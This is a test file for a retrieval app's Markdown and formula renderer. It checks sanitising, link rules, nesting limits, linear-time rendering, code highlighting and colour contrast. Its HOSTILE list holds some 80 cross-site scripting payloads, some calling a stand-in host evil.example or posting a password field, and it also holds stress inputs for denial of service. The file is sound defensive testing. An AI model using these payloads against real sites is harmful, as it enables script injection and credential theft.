"""Foreign Markdown on the page: rendered where it means something, text where it could act, fast whatever it is."""

import functools
import re
from html.parser import HTMLParser

import pytest

from benchmarks.attack.limited import unfinished
from rag.serve.assets import read_static
from rag.serve.view.code import _LANGUAGES, code_html, language_of
from rag.serve.view.formulas import ATTRIBUTES, ELEMENTS, mathml
from rag.serve.view.markdown import MAX_CHARACTERS, MAX_NESTING, html_of, markdown_html
from rag.serve.view.plain import as_markdown
from rag.serve.view.signs import CITE, CITE_END, MARK, MARK_END, citation, clean
from rag.serve.view.writing import MAX_EMPHASES

_TAGS = "p h3 h4 h5 h6 strong em s ul ol li blockquote hr br a code pre figure figcaption div table thead"
TAGS = {*_TAGS.split(), "tbody", "tr", "th", "td", "mark", "span", "button", *ELEMENTS.split()}
NAMES = {"dir", "href", "title", "target", "rel", "class", "role", "aria-label", "tabindex", "scope", "start"}
NAMES |= set(ATTRIBUTES.split())
VOID = {"br", "hr"}


class Checked(HTMLParser):
    """Every element and attribute of a piece of HTML; raises AssertionError for one that may not be there."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.tags, self.open, self.text, self.deepest = [], [], "", 0
        self.links = []
        self.feed(html)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag, attrs):
        assert tag in TAGS, tag
        for name, value in attrs:
            assert name in NAMES, name
            if name == "href":
                assert re.match(r"(?i)https?://[^/]|mailto:", value), value
                self.links.append(value)
        if tag == "a":
            assert ("rel", "noopener noreferrer nofollow") in attrs
        self.tags.append(tag)
        if tag not in VOID:
            self.open.append(tag)
            self.deepest = max(self.deepest, len(self.open))

    def handle_endtag(self, tag):
        assert self.open, tag
        assert self.open.pop() == tag

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        raise AssertionError(data)

    handle_decl = handle_pi = handle_comment


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password></form>",
    "<!-- --><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<details open ontoggle=alert(1)>",
    "</p></div></article><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2Zy8+)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a/b)",
    "[x](//evil.example/x)",
    "[x](/logout)",
    "[x](https:/evil.example)",
    "[x](https://)",
    '[x](https://a.example" onmouseover="alert(1))',
    '[x](<https://a.example" onclick=alert(1) x=">)',
    "[x](https://a.example 'x\" onclick=alert(1)')",
    '[x][y]\n\n[y]: javascript:alert(1) "z"',
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '<https://a.example/"onclick=alert(1)>',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x](http://evil.example/track.png)",
    "![<img src=x onerror=alert(1)>](http://evil.example/x.png)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "`<script>alert(1)</script>`",
    "```<script>\n<script>alert(1)</script>\n```",
    '```python"><script>alert(1)</script>\nx\n```',
    "```html\n<script>alert('1')</script>\n<img src=x onerror=y>\n```",
    "~~~ x' onclick='alert(1)\ny\n~~~",
    "    <script>alert(1)</script>",
    "| <script>a</script> | b |\n|:--|--:|\n| <img src=x onerror=a> | [x](javascript:b) |",
    "# <script>alert(1)</script>",
    "<b>**bold**</b>",
    r"$\text{<script>alert(1)</script>}$",
    r"$\text{&lt;img src=x onerror=alert(1)&gt;}^2$",
    r"$\href{javascript:alert(1)}{x^2}$",
    r"$\style{background:url(//evil.example)}{x^2}$",
    r"$\class{sheet}{x^2}$",
    r"$\unicode{<}x^2$",
    r"$$\mbox{</math><img src=x onerror=alert(1)>}$$",
    r"\[\text{</math></mtext><script>x</script>}\]",
    r"$\newcommand{\x}{<script>}\x^2$",
    "https://a.example/<script>alert(1)</script>",
    'https://a.example/"onmouseover="alert(1)',
    "http://a.example/'onmouseover='alert(1)",
    "javascript:alert(1)//http://a.example",
    f"{CITE}1{CITE_END}{MARK}<script>{MARK_END}",
    f"[x](https://a.example/{CITE}9{CITE_END})",
    "\u202ehttps://elpmaxe.live\u202c",
    "a\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ufeff<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_foreign_can_act(text):
    for given in (text, f"> - {text}", f"**{text}**", f"[{text}](https://a.example)"):
        for shown in (html_of(given), markdown_html(as_markdown(clean(given)), formulas=False)):
            found = Checked(shown)
            assert not any("evil" in link and "track" not in link and "x.png" not in link for link in found.links)


def test_what_looks_like_html_is_read_as_text():
    assert Checked(html_of("a <b>bold</b> &amp; <script>x</script>")).text == "a <b>bold</b> & <script>x</script>"
    assert Checked(html_of("`&lt;`")).text == "&lt;"


def test_a_long_answer_of_every_payload_is_safe_too():
    Checked(html_of("\n\n".join(HOSTILE)))
    Checked(html_of("\n\n".join(HOSTILE) * 20))
    assert len("\n\n".join(HOSTILE) * 20) > MAX_CHARACTERS


DEEP = {
    "quotes": "> " * 5000,
    "lists": "- " * 5000,
    "numbers": "1. " * 5000,
    "items below each other": "\n".join("  " * n + "- x" for n in range(90)) + "\n\n",
    "brackets": "[" * 9000,
    "stars around": "*" * 9000 + "a" + "*" * 9000 + " ",
    "stars": "**a" * 5000,
    "links": "[a" * 1500 + "](http://a.example)" * 900,
    "braces in a formula": "$" + "{" * 400 + "x^2" + "}" * 400 + "$ ",
    "roots in a formula": "$" + r"\sqrt" * 150 + "x^2$ ",
}


@pytest.mark.parametrize("name", DEEP)
def test_nesting_ends_and_nothing_is_lost(name):
    found = Checked(html_of(f"{DEEP[name]}the end"))
    assert "the end" in found.text
    assert found.deepest <= MAX_NESTING + MAX_EMPHASES + 2


def test_lists_of_usual_depth_are_nested():
    text = "\n".join("  " * n + f"- item {n}" for n in range(10))
    assert Checked(html_of(text)).deepest == 20  # a list and an item for each


PUMPS = [
    *"a \n\t*_`~[]()<>!#|-$\\&:\ré中",
    *("**a ", "*a_ ", "_a*", "`a", "``a`", "[a](", "![", "](", "[[]", "[a]: b\n", "[a]:", "<a", "<!--", "http://"),
    *(
        "https://a.b/",
        "$a",
        "$$",
        "\\(",
        "\\[",
        "\\[a\n",
        "$$\n",
        "$x^",
        "> ",
        "- ",
        "1. ",
        "1.\n",
        "# ",
        "```\n",
        "~~~",
    ),
    *("| a ", "|-|\n", "a | b\n", "a\n-\n", "a\n=\n", "&#", "&a;", "&amp", "\\\\", "__a", "a__", "~~a", "a@b.c "),
    *(MARK, MARK_END, CITE, "a\nb\n", "a-\nb", "- a\n\n", " - a\n", "\t- a\n", "    a\n", "def f(x):\n", "x = 1;\n"),
    *("a  b   c\n", "a. ", "1) a\n"),
]


def shown(pump, length):
    text = pump * (length // len(pump))
    return [html_of(text), html_of(f"x {text}"), markdown_html(as_markdown(clean(text)), formulas=False)]


IN_PARAGRAPHS = [
    "a",
    " ",
    "\n",
    "a\n",
    "| a ",
    "a | b\n",
    "- a\n",
    "1. a\n",
    "    a\n",
    "a  b   c\n",
    "`",
    MARK,
    CITE,
    "http://",
]


def test_a_million_characters_are_shown_in_linear_time():
    assert unfinished({pump: functools.partial(shown, pump, 1_000_000) for pump in IN_PARAGRAPHS}, 20) == []


def test_the_longest_texts_that_are_rendered_take_no_longer():
    assert unfinished({pump: functools.partial(shown, pump, MAX_CHARACTERS) for pump in PUMPS}, 10) == []


@pytest.mark.parametrize("pump", PUMPS)
def test_repeated_signs_are_shown_without_an_error(pump):
    for length in (1, 7, 600):
        for html in shown(pump, length * len(pump)):
            Checked(html)


def test_markdown_is_rendered():
    text = "# Title\n\n**bold** and `code`\n\n- one\n- two\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n> said\n\n~~gone~~"
    html = html_of(text)
    for part in (
        '<h3 dir="auto">Title</h3>',
        "<strong>bold</strong> and <code>code</code>",
        '<ul><li dir="auto">one</li><li dir="auto">two</li></ul>',
        '<th scope="col" class="right" dir="auto">b</th>',
        '<td class="right" dir="auto">2</td>',
        '<blockquote dir="auto"><p dir="auto">said</p></blockquote>',
        "<s>gone</s>",
    ):
        assert part in html
    assert "style=" not in html  # the page allows no style of its own


def test_headings_follow_each_other_without_gaps():
    html = html_of("## A\n\n#### B\n\n## C")
    assert re.findall(r"<h(\d)", html) == ["3", "4", "3"]


def test_links_lead_to_the_web_and_to_mail_alone():
    text = "[a](https://a.example/x) [m](mailto:ada@example.org) <https://b.example> https://c.example/d_e. (http://f.example)"
    links = Checked(html_of(text)).links
    assert links == [
        "https://a.example/x",
        "mailto:ada@example.org",
        "https://b.example",
        "https://c.example/d_e",
        "http://f.example",
    ]
    assert 'title="https://a.example/x" target="_blank" rel="noopener noreferrer nofollow">a</a>' in html_of(text)


def test_a_link_within_a_link_and_a_picture_are_one_link():
    assert Checked(html_of("[see https://b.example](https://a.example)")).links == ["https://a.example"]
    assert Checked(html_of("![a map](https://a.example/m.png)")).text == "a map"


@pytest.mark.parametrize(
    "text", ["1874. It was rebuilt.", "1874.", "12. March", "3) of them", "It was in\n\n1874. Then it burned."]
)
def test_a_number_alone_begins_no_list(text):
    found = Checked(html_of(text))
    assert "ol" not in found.tags
    assert " ".join(found.text.split()) == " ".join(text.split()).replace("in 1874", "in1874")


def test_numbers_that_follow_each_other_are_a_list_wherever_it_begins():
    assert '<ol start="7"><li' in html_of("7. seven\n8. eight")
    assert Checked(html_of("1. one\n\n2. two")).tags.count("li") == 2


def test_names_of_methods_and_files_keep_their_underscores():
    assert html_of("call __init__ of snake_case_name") == '<p dir="auto">call __init__ of snake_case_name</p>'


def test_lines_that_were_wrapped_are_joined_and_others_are_not():
    wrapped = (
        "The ferry leaves the old harbour at noon, unless the wind\n"
        "is stronger than eight. Nobody knows the reason for that.\n"
        "Dogs travel free of charge on every day of the week but\nSunday."
    )
    assert "<br>" not in html_of(wrapped)
    assert html_of("Name: Ada\nCity: London") == '<p dir="auto">Name: Ada<br>City: London</p>'
    split = "It is the most famous of all, the great light-\nhouse of Tern Island in the north."
    assert "great light-house of" in html_of(split)
    assert "東京都庁" in html_of("これは長い行であり、ここで折り返されて次の行に続く東京\n都庁があります。")


def test_code_has_its_language_and_classes_and_keeps_its_lines():
    html = html_of('```py\ndef f(x):\n    return "<b>"  # done\n```')
    assert "<figcaption>Python</figcaption>" in html
    assert '<span class="c-keyword">def</span> <span class="c-name">f</span>(x):\n    ' in html
    assert '<span class="c-comment"># done</span>' in html
    assert Checked(html).text == 'Pythondef f(x):\n    return "<b>"  # done'
    assert code_html("x < 1", "") == "x &lt; 1"


def test_every_language_is_known_to_its_lexer_and_says_the_same():
    code = "# a\nclass A { int x = 1; } // \"s\"\n<a href='b'>\n"
    for name, aliases in _LANGUAGES.items():
        assert {language_of(alias) for alias in aliases} == {name}
        assert Checked(f"<pre>{code_html(code, name)}</pre>").text == code
    assert language_of("brainfuck") == ""
    assert language_of("") == ""


def test_long_code_is_shown_without_colours():
    assert "<span" not in code_html("x = 1\n" * 1000, "Python")
    assert "<span" not in code_html("x = 1" * 100, "Python")
    assert "<span" not in code_html("1\n" * 400, "Python")


@pytest.mark.parametrize(
    ("text", "drawn"),
    [
        ("$x^2$", "<msup><mi>x</mi><mn>2</mn></msup>"),
        (r"\(\frac{a}{b}\)", "<mfrac>"),
        ("$$\nx^2\n$$", '<div class="formula"><math display="block">'),
        ("\\[\n\\sum_{i=1}^n i\n\\]", "<mo>∑</mo>"),
    ],
)
def test_formulas_are_drawn(text, drawn):
    pytest.importorskip("latex2mathml")
    assert drawn in html_of(text)


@pytest.mark.parametrize(
    "text", ["It costs $5 and $10.", "US$ 5, not US$ 6", "from $5-$10", "$HOME and $PATH", "a $ b", "$$", "$ $"]
)
def test_amounts_and_variables_are_no_formulas(text):
    assert "<math" not in html_of(text)
    assert Checked(html_of(text)).text == text


def test_a_formula_that_cannot_be_read_is_shown_as_it_is_written():
    assert html_of(r"$\newcommand{\x}{y}\x^2$") == r'<p dir="auto"><code>$\newcommand{\x}{y}\x^2$</code></p>'
    assert mathml("{" * 100 + "x" + "}" * 100) == ""
    assert mathml("x" * 5000) == ""


def test_marks_and_citations_stand_in_what_they_stand_in():
    def cite(number):
        return f"({number})"

    text = f"a {MARK}b **c{MARK_END} d** e{citation(2)}\n\n- f{citation(3)}"
    assert markdown_html(text, cite) == (
        '<p dir="auto">a <mark>b </mark><strong><mark>c</mark> d</strong> e(2)</p><ul><li dir="auto">f(3)</li></ul>'
    )
    code = f"```\nx{citation(1)}\n```"
    assert markdown_html(code, cite).endswith("<code>x</code></pre></figure><p>(1)</p>")
    assert markdown_html(f"`x{citation(1)}`", cite) == '<p dir="auto"><code>x</code>(1)</p>'


def test_a_mark_goes_on_over_lines_and_blocks():
    text = f"{MARK}one two three four five six seven eight nine\nten.\n\nNext{MARK_END} one"
    assert markdown_html(text) == (
        '<p dir="auto"><mark>one two three four five six seven eight nine ten.</mark></p>'
        '<p dir="auto"><mark>Next</mark> one</p>'
    )
    assert markdown_html(text, first_mark=" id=passage").count("id=passage") == 1


def test_signs_in_foreign_text_mean_nothing():
    assert html_of(f"{citation(1)} {MARK}x{MARK_END}") == '<p dir="auto">((1)) ⌈x⌉</p>'
    assert clean("a\r\nb\x00\x1b\u202ec") == "a\nbc"


def luminance(colour):
    """The relative luminance of #rrggbb, as WCAG 2 defines it."""
    parts = [int(colour[n : n + 2], 16) / 255 for n in (1, 3, 5)]
    red, green, blue = (part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts)
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


def contrast(one, other):
    dark, light = sorted((luminance(one), luminance(other)))
    return (light + 0.05) / (dark + 0.05)


def test_the_colours_of_code_can_be_read_on_what_they_stand_on():
    pairs = re.compile(r"light-dark\((#\w{6}), (#\w{6})\)")
    own = re.findall(r"--code-\w+: light-dark\((#\w{6}), (#\w{6})\)", read_static("app/answer.css"))
    page = read_static("app/page.css")
    sunken, marks, texts = (
        re.search(rf"--{name}: {pairs.pattern}", page).groups() for name in ("sunken", "mark", "text")
    )
    assert len(own) == 8
    for colours in own:
        for colour, ground in zip(colours, sunken, strict=True):
            assert contrast(colour, ground) >= 4.5, colour
    for text, mark in zip(texts, marks, strict=True):
        assert contrast(text, mark) >= 4.5
    source = read_static("source.css")
    of_code = [pairs.search(line).groups() for line in source.splitlines() if line.startswith(".c-")]
    assert of_code == own
    assert re.search(r"--sunken: light-dark\((#\w{6}), (#\w{6})\)", source).groups() == sunken
